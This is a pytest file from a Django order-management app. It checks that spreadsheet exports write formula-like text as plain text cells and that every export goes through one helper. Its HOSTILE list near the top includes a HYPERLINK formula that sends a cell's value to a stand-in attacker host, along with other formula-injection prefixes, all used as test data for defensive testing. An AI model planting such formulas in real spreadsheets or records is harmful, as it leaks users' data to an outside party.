"""Spreadsheets carry text, not formulas: every Excel export, through the one helper."""

from __future__ import annotations

import ast
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from stemlink.orders.models import FeeEntry
from stemlink.web.exports import workbook_bytes
from tests.factories import make_customer
from tests.stemlink.web.orders_world import web_order_invoice

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&K2,"Fleur")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
# Every view that answers a spreadsheet, by URL name: a new export must be added here (and so
# tested), or `test_every_export_view_is_listed` fails.
CUSTOMER_EXPORTS = {"web:customers_export", "web:fees_export"}
# Setup's master-data lists: each exports its records' own text (a product's description, …).
MASTER_DATA_EXPORTS = {
    f"web:{slug}_export": field
    for slug, field in {
        "products": "description",
        "categories": "name",
        "box-types": "description",
        "carriers": "name",
        "growers": "name",
        "locations": "name",
    }.items()
}
EXPORT_VIEWS = CUSTOMER_EXPORTS | set(MASTER_DATA_EXPORTS) | {"web:inventory_export"}
# Modules that read spreadsheets (imports) but never write one: no Workbook, no csv writer.
READERS = {"imports.py"}
SRC = Path(__file__).resolve().parents[3] / "src"


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_writes_formula_like_text_as_a_text_cell(text):
    cells = _cells(workbook_bytes("T", [text, "n", "d", "m"], [[text, 12, Decimal("1.50"), -3]]))
    found = [c for c in cells if c.value in (text, text.replace("\r", "\n"))]  # XML reads \r as \n
    assert len(found) == 2  # the header and the row
    assert all(c.data_type == "s" for c in found)
    numbers = [c for c in cells if c.value in (12, -3)]
    assert [c.data_type for c in numbers] == ["n", "n"]  # numbers stay numbers


def test_control_characters_xml_cannot_hold_do_not_break_an_export():
    cells = _cells(workbook_bytes("T", ["Name"], [["Rosa\x0b\x01 Bella"]]))
    assert cells[1].value == "Rosa Bella"


def _exported_cells(admin_client, name: str) -> list:
    response = admin_client.get(reverse(name))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return _cells(b"".join(response.streaming_content))


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_every_export_view_writes_a_hostile_customer_name_as_text(admin_client, world, text):
    customer = make_customer(world.company, name=text, code="EVIL")
    invoice = web_order_invoice(world, customer=customer)
    assert FeeEntry.objects.filter(invoice=invoice).exists()  # the fees export has its row
    for name in sorted(CUSTOMER_EXPORTS):
        cells = [c for c in _exported_cells(admin_client, name) if c.value == text]
        assert cells, f"{name} did not export the customer's name"
        assert all(c.data_type == "s" for c in cells), name


@pytest.mark.parametrize("text", HOSTILE[:2])
def test_every_master_data_export_writes_hostile_text_as_text(admin_client, world, text):
    records = {
        "products": world.product,
        "categories": world.roses,
        "box-types": world.hb,
        "carriers": world.carrier,
        "growers": world.vendor,
        "locations": world.location,
    }
    for name, field in sorted(MASTER_DATA_EXPORTS.items()):
        record = records[name.removeprefix("web:").removesuffix("_export")]
        setattr(record, field, text)
        record.save()
        cells = [c for c in _exported_cells(admin_client, name) if c.value == text]
        assert cells, f"{name} did not export the record's {field}"
        assert all(c.data_type == "s" for c in cells), name


def test_the_inventory_export_hides_costs_from_reps_and_is_not_imported_twice_by_mistake(
    admin_client, rep_client, world
):
    from io import BytesIO

    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.factories import make_line

    line = make_line(world, awb="=1+1", reserved_for=None)
    cells = _exported_cells(admin_client, "web:inventory_export")
    assert next(c for c in cells if c.value == "=1+1").data_type == "s"
    assert "Unit cost" in [c.value for c in cells]
    rep_cells = [c.value for c in _exported_cells(rep_client, "web:inventory_export")]
    assert "Unit cost" not in rep_cells and line.pk in rep_cells
    # Importing the export as it is would put the same boxes on hand again: its extra columns
    # make the import refuse it, naming the first one.
    exported = b"".join(admin_client.get(reverse("web:inventory_export")).streaming_content)
    preview = admin_client.post(
        "/setup/import/inventory/",
        {"action": "upload", "file": SimpleUploadedFile("back.xlsx", BytesIO(exported).getvalue())},
    )
    assert preview.status_code == 400 and "Line ID" in preview.content.decode()


def _url_names(resolver: URLResolver | None = None, prefix: str = "") -> set[str]:
    names: set[str] = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            space = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            names |= _url_names(entry, space)
        elif (
            isinstance(entry, URLPattern)
            and entry.name
            and ("xlsx" in str(entry.pattern) or "export" in entry.name)
        ):
            names.add(prefix + entry.name)
    return names


def test_every_export_view_is_listed():
    assert _url_names() == EXPORT_VIEWS


def test_only_the_export_helper_builds_workbooks():
    """No module but `stemlink/web/exports.py` may use openpyxl, so no export can skip the helper."""
    offenders = []
    for path in list((SRC / "stemlink").rglob("*.py")) + list((SRC / "marketplace").rglob("*.py")):
        if path.name == "exports.py" and path.parent.name == "web":
            continue
        source = path.read_text()
        if path.name in READERS and path.parent.name == "web":
            assert "Workbook(" not in source and "writer(" not in source, path
            continue
        tree = ast.parse(source)
        for node in ast.walk(tree):
            modules = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(m.split(".")[0] in {"openpyxl", "xlsxwriter", "csv"} for m in modules):
                offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


def test_the_workbook_has_typed_cells_a_bold_frozen_header_and_text_kept_whole():
    import datetime as dt
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    when = dt.datetime(2026, 3, 1, 17, 30, 15, tzinfo=dt.UTC)
    row = [when, dt.date(2026, 3, 2), Decimal("1234.50"), 7, 2.5, True, None, '  A & B <"x">', "x\r\ny"]
    with timezone.override(ZoneInfo("America/Bogota")):
        content = workbook_bytes("Fees & more", [f"c{i}" for i in range(len(row))], [row])
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    assert sheet.title == "Fees & more" and sheet.freeze_panes == "A2"
    header, cells = list(sheet.iter_rows())
    assert all(c.font.b for c in header) and not cells[0].font.b
    values = [c.value for c in cells]
    assert values[0] == dt.datetime(2026, 3, 1, 12, 30, 15)  # the wall time in Bogotá
    assert values[1] == dt.datetime(2026, 3, 2)  # a date: a whole day, shown as one
    assert cells[1].number_format == "yyyy-mm-dd" and cells[0].number_format == "yyyy-mm-dd h:mm:ss"
    assert values[2:6] == [1234.5, 7, 2.5, True] and cells[2].number_format == "0.00"
    assert values[6] is None
    assert values[7] == '  A & B <"x">' and values[8] == "x\r\ny"
    assert sheet.column_dimensions["A"].width == 14


def test_an_export_is_written_in_the_zone_of_the_page_even_though_it_is_sent_later(rf):
    import datetime as dt
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    from stemlink.web.exports import export_response

    when = dt.datetime(2026, 3, 1, 17, 0, tzinfo=dt.UTC)
    with timezone.override(ZoneInfo("Asia/Tokyo")):  # the view runs in the company's zone ...
        book = export_response(rf.get("/x"), "x", "X", ["When"], [[when]])
        text = export_response(rf.get("/x", {"format": "csv"}), "x", "X", ["When"], [[when]])
    # ... and the rows are written after it has returned
    sheet = load_workbook(io.BytesIO(b"".join(book.streaming_content))).active
    assert sheet["A2"].value == dt.datetime(2026, 3, 2, 2, 0)
    assert b"2026-03-02 02:00:00" in b"".join(text.streaming_content)


def test_a_closed_workbook_export_stops_reading(rf, db):
    """The client went away: the server closes the response, and the rows stop being read."""
    from stemlink.web.exports import export_response

    read = []

    def rows():
        for n in range(100_000):
            read.append(n)
            yield [n, f"row {n}", Decimal("1.00")]

    response = export_response(rf.get("/x"), "x", "X", ["n", "text", "amount"], rows())
    chunks = iter(response.streaming_content)
    assert next(chunks).startswith(b"PK")
    next(chunks)  # the first rows
    response.close()
    assert len(read) < 5_000
    assert list(chunks) == []
